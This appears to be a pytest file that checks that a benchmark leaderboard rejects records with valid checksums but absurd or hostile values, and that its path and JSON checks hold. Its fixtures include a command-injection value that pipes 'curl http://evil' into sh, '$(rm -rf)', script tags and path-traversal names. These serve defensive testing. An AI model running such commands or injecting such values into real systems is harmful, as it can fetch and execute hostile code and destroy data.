"""Results that are sealed correctly and yet absurd or hostile: each is named and left out, and the board stands."""

import json
import re
from collections.abc import Mapping
from pathlib import Path
from typing import Any

import pytest
from board_records import fill, make_record, text_of
from in_process import say

from bench.errors import BenchError
from bench.files import inside, parse_json
from bench.recipe import DatasetFacts, canonical_digest
from bench.record import load_record
from bench.report.site import write_site
from bench.results import build_leaderboard

HUGE = "1" + "0" * 5000

LIES: Mapping[str, tuple[tuple[str | int, ...], Any]] = {
    "flops": (("cost", "stage:ssl", "flops_per_image"), 1e308),
    "images": (("cost", "stage:ssl", "images"), 10**18),
    "seconds": (("cost", "stage:ssl", "seconds"), 1e300),
    "n": (("sa", "n"), 10**18),
    "seed": (("seed",), -1),
    "year": (("year",), 10**17),
    "loss": (("history",), {"stage:ssl": [{"loss": 1e308}]}),
    "title": (("title",), "a\u202eb"),
    "device": (("environment", "device"), "a\x1b[2J"),
    "commit": (("environment", "commit"), "main; curl http://evil | sh #"),
    "package": (("environment", "packages"), {"torch": "2 | <script>"}),
    "version": (("aa", "version"), "standard | <b>"),
    "warnings": (("aa", "warnings"), ["\x07"]),
    "survivors": (("aa", "survivors"), {"apgd": -1}),
    "eps": (("ra", "eps"), 1e307),
    "dataset": (("dataset",), "../x"),
    "reserved": (("dataset",), "published"),
    "method": (("method",), "a/b"),
    "tier": (("tier",), ".."),
    "protocol": (("protocol",), "s\\lf"),
    "pretrained_on": (("pretrained_on",), "/etc"),
    "digest": (("encoder_sha256",), "$(rm -rf)"),
    "facts": (("recipe", "dataset", "num_classes"), 10**9),
    "facts name": (("recipe", "dataset", "name"), "../../x/y"),
    "facts eps": (("recipe", "dataset", "eps"), 1e308),
    "shape": (("recipe", "dataset", "image_shape"), [3, 10**9, 10**9]),
    "moments": (("recipe", "dataset", "mean"), [1e308] * 3),
    "threat": (("recipe", "threat"), {"norm": "l2", "eps": 1e307}),
    "budget": (("recipe", "budget"), ["cheap"]),
    "budget size": (("recipe", "budget"), 1e308),
    "another eps": (("ra", "eps"), 1e-3),
    "another eps in the recipe": (("recipe", "evaluate"), {"eps": 1e-3}),
    "other restarts in the recipe": (("recipe", "evaluate"), {"pgd_restarts": 9}),
    "other steps in the recipe": (("recipe", "evaluate"), {"pgd_steps": 1}),
    "another step size in the recipe": (("recipe", "evaluate"), {"pgd_step_size": 0.5}),
    "another start in the recipe": (("recipe", "evaluate"), {"pgd_start": "clean"}),
    "another attack in the recipe": (("recipe", "evaluate"), {"attack": "apgd"}),
    "another precision in the recipe": (("recipe", "evaluate"), {"attack_precision": "bf16"}),
    "text for eps in the recipe": (("recipe", "evaluate"), {"eps": "8/255"}),
    "another method in the recipe": (("recipe", "method"), "simclr"),
    "another tier in the recipe": (("recipe", "tier"), "tiny"),
    "unknown protocol": (("protocol",), "xyz"),
    "finished too early": (("finished",), "2001-01-01T00:00:00+00:00"),
}


def sealed_file(path: Path, place: tuple[str | int, ...], value: Any, seed: int = 5) -> None:
    """Write a record with a right checksum in which ``value`` stands at ``place``."""
    values: Any = json.loads(make_record(seed=seed).sealed().model_dump_json())
    part = values
    for key in place[:-1]:
        part = part[key]
    part[place[-1]] = value
    del values["sha256"]
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(json.dumps({**values, "sha256": canonical_digest(values)}))


@pytest.fixture(scope="module")
def results(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """One good record, and beside it one for each lie."""
    results = fill(tmp_path_factory.mktemp("hostile") / "results", make_record())
    for seed, (name, (place, value)) in enumerate(LIES.items(), 100):
        sealed_file(results / "cifar10" / f"{name}.json", place, value, seed)
    good = next(results.glob("cifar10/deacl*.json")).read_text()
    texts = {
        "digits": good.replace('"year": 2022', f'"year": {HUGE}'),
        "infinite": good.replace('"year": 2022', '"year": 1e999'),
        "nan": good.replace('"year": 2022', '"year": NaN'),
        "surrogate": good.replace('"title": "DeACL"', r'"title": "\ud800"'),
        "deep": good.replace('"overrides": {}', '"overrides": ' + '{"a":' * 9000 + "1" + "}" * 9000),
        "list": "[]",
        "boolean": re.sub(r'("schema_version": )\d', r"\1true", good),
    }
    for name, text in texts.items():
        assert text != good
        (results / "cifar10" / f"{name}.json").write_text(text)
    return results


def test_the_board_names_each_and_shows_the_others(results: Path, tmp_path: Path) -> None:
    board = build_leaderboard(results)
    assert {bad.file for bad in board.left_out} == {
        path.relative_to(results).as_posix() for path in results.glob("cifar10/*.json") if "deacl" not in path.name
    }
    assert text_of(results) == text_of(fill(tmp_path / "good", make_record()))


def test_every_reader_of_results_does(
    results: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    written = write_site(results, tmp_path / "site")
    assert written.records == 1
    assert len(written.left_out) == len(list(results.glob("cifar10/*.json"))) - 1
    for command in (
        ["leaderboard", "--format", "csv"],
        ["leaderboard", "--format", "latex"],
        ["leaderboard", "--format", "json"],
        ["timing", "--from-results"],
        ["timing", "--from-results", "--json"],
        ["plot", "cost", "--output", str(tmp_path / "figures")],
    ):
        say(monkeypatch, capsys, *command, "--results-dir", str(results))


@pytest.mark.parametrize("name", ["", ".", "..", "../x", "/etc", "a/b", "a\\b", "a\0b"])
def test_no_path_leaves_its_folder(tmp_path: Path, name: str) -> None:
    with pytest.raises(BenchError, match="not a plain name"):
        inside(tmp_path, "digits", name)


@pytest.mark.parametrize("name", ["../../x/y", "..", "a b", "-rf", "a;b", "", "x" * 101, "published", "Local", "a\n"])
def test_a_dataset_has_a_name_that_is_one_folder(name: str) -> None:
    facts = make_record().recipe["dataset"]
    with pytest.raises(BenchError, match="name: "):
        DatasetFacts.parse({**facts, "name": name}, "facts")


@pytest.mark.parametrize(
    "text", ["1" * 21, "-" + "9" * 19, HUGE, "1e999", "-Infinity", "NaN", r'"\ud800"', r'["\uDFFF"]']
)
def test_json_holds_numbers_and_texts_that_can_be_written_again(text: str) -> None:
    with pytest.raises(ValueError, match=r"64 bits|finite|surrogates"):
        parse_json(text)


@pytest.mark.parametrize(
    "text",
    ["-0.0", "1e-320", "[1E22,-1e+300]", "9223372036854775807.5", str(2**64 - 1), f"[{-(2**63)}]", '"x 1e999, é"'],
)
def test_extreme_numbers_that_can_be_written_again_are_read_to_the_last_bit(text: str) -> None:
    assert repr(parse_json(text)) == repr(json.loads(text))


def test_a_number_of_thousands_of_digits_is_not_repeated_in_the_message() -> None:
    facts = make_record().recipe["dataset"]
    with pytest.raises(BenchError, match="num_classes") as caught:
        DatasetFacts.parse({**facts, "num_classes": 10**5000}, "facts")
    assert len(str(caught.value)) < 500


def test_free_mappings_are_checked_too(tmp_path: Path) -> None:
    for number, value in enumerate([10**18 * 100, {"a": [float(2**63) * 10, -(2**70)]}]):
        path = tmp_path / f"{number}.json"
        sealed_file(path, ("overrides",), {"stage.lr": value})
        with pytest.raises(BenchError, match="64 bits"):
            load_record(path)
